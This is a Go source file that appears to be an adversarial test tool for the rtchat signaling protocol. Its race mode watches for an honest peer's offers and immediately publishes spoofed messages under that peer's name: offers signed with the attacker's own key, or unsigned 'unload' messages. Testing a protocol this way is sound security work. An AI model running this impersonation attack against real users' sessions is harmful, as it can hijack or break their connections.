package main

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"flag"
	"strconv"
	"sync/atomic"
	"time"

	"github.com/rtchat/rtchat/keys"
)

// Signed signaling as docs/protocol.md ("Signed signaling") describes it: an attacker signs
// with its own key, which is all anyone can do; what it exploits is what the receiver does
// with an offer that verifies against the key it carries.

// signalSig is the `rtchat` member of an offer's or answer's data.
type signalSig struct {
	V          int    `json:"v"`
	TS         int64  `json:"ts"`
	Nonce      string `json:"nonce"`
	OfferNonce string `json:"offerNonce,omitempty"`
	Role       string `json:"role,omitempty"`
	Pipe       string `json:"pipe,omitempty"`
	Restart    bool   `json:"restart,omitempty"`
	Sig        string `json:"sig"`
}

var b64 = base64.RawURLEncoding

// signedOffer is the data of an RTCOffer from sender to target, signed with id. restart
// marks an ICE restart offer (the kind "offer restart").
func signedOffer(id *keys.Identity, topic, sender, target, role, sdp string, restart bool) (map[string]any, error) {
	nonce := make([]byte, 16)
	_, _ = rand.Read(nonce)
	s := signalSig{V: 2, TS: time.Now().UnixMilli(), Nonce: b64.EncodeToString(nonce), Role: role, Restart: restart}
	kind := "offer"
	if restart {
		kind = "offer restart"
	}
	var msg []byte
	for _, f := range []string{"rtchat signal v2", kind, topic, sender, target, strconv.FormatInt(s.TS, 10),
		s.Nonce, "", role, "", sdp} {
		msg = binary.BigEndian.AppendUint32(msg, uint32(len(f)))
		msg = append(msg, f...)
	}
	sig, err := id.Sign(msg)
	if err != nil {
		return nil, err
	}
	s.Sig = b64.EncodeToString(sig)
	return map[string]any{
		"userInfo": userInfo{PublicKeyString: id.PublicJWK, RTChat: &rtchatInfo{V: 2, Role: role}},
		"offer":    map[string]any{"localDescription": sessionDesc{Type: "offer", SDP: sdp}, "target": target},
		"rtchat":   s,
	}, nil
}

// race mode: the moment the honest peer -from (alice) offers to the victim (bob), before
// their connection can be verified, publish one message in alice's exact full name, per
// -kind:
//
//	selfsigned  an RTCOffer signed with our own key (and carrying it), a real pion SDP
//	unload      a bare unsigned unload
//
// for each of alice's offers, up to -n. Events: watching, fired (per offer of alice's, with
// the delay after it), summary (fired).
func runRace(ctx context.Context, args []string, ctl *control) error {
	fs := flag.NewFlagSet("race", flag.ExitOnError)
	var c common
	var from, kind string
	var n int
	fs.StringVar(&from, "from", "alice", "bare name of the honest peer")
	fs.StringVar(&kind, "kind", "selfsigned", "selfsigned or unload")
	fs.IntVar(&n, "n", 8, "offers of alice's to race")
	ctx, cancel := parse(ctx, fs, &c, args)
	defer cancel()
	id, err := keys.Generate("mallory")
	if err != nil {
		return err
	}
	r, err := dialRoom(ctx, c.broker, c.room, "mallory("+randHex(2)+")", id.PublicJWK)
	if err != nil {
		return err
	}
	defer r.close()
	// Prepared before alice offers, so that the race costs one publication.
	sdp, err := deadSDP(ctx)
	if err != nil {
		return err
	}
	type seen struct {
		sender, target, role string
		at                   time.Time
	}
	offers := make(chan seen, 64)
	off := r.on(func(env envelope, _ []byte) {
		if env.Subtopic != subOffer || keys.BareName(env.Sender) != from {
			return
		}
		var d struct {
			offerData
			RTChat *signalSig `json:"rtchat"`
		}
		if json.Unmarshal(env.Data, &d) != nil || keys.BareName(d.Offer.Target) != c.victim ||
			d.UserInfo.PublicKeyString == id.PublicJWK || d.RTChat == nil || d.RTChat.Restart {
			return // not alice's (ours echoed back, or a restart)
		}
		role := ""
		if d.UserInfo.RTChat != nil {
			role = d.UserInfo.RTChat.Role
		}
		select {
		case offers <- seen{env.Sender, d.Offer.Target, role, time.Now()}:
		default:
		}
	})
	defer off()
	out.emit("watching", map[string]any{"kind": kind})
	var fired atomic.Int64
	for int(fired.Load()) < n {
		var o seen
		select {
		case o = <-offers:
		case <-ctl.stopCh:
			out.emit("summary", map[string]any{"kind": kind, "fired": fired.Load()})
			return nil
		case <-ctx.Done():
			return ctx.Err()
		}
		switch kind {
		case "selfsigned":
			d, err := signedOffer(id, r.topic, o.sender, o.target, o.role, varySDP(sdp), false)
			if err != nil {
				return err
			}
			err = r.publish(ctx, o.sender, subOffer, d)
			if err != nil {
				return err
			}
		case "unload":
			if err := r.publish(ctx, o.sender, subUnload, "disconnecting"); err != nil {
				return err
			}
		default:
			out.emit("error", map[string]any{"error": "unknown -kind " + kind})
			return nil
		}
		fired.Add(1)
		out.emit("fired", map[string]any{"alice": o.sender, "bob": o.target, "after_ms": time.Since(o.at).Milliseconds()})
	}
	<-ctl.stopCh
	out.emit("summary", map[string]any{"kind": kind, "fired": fired.Load()})
	return nil
}
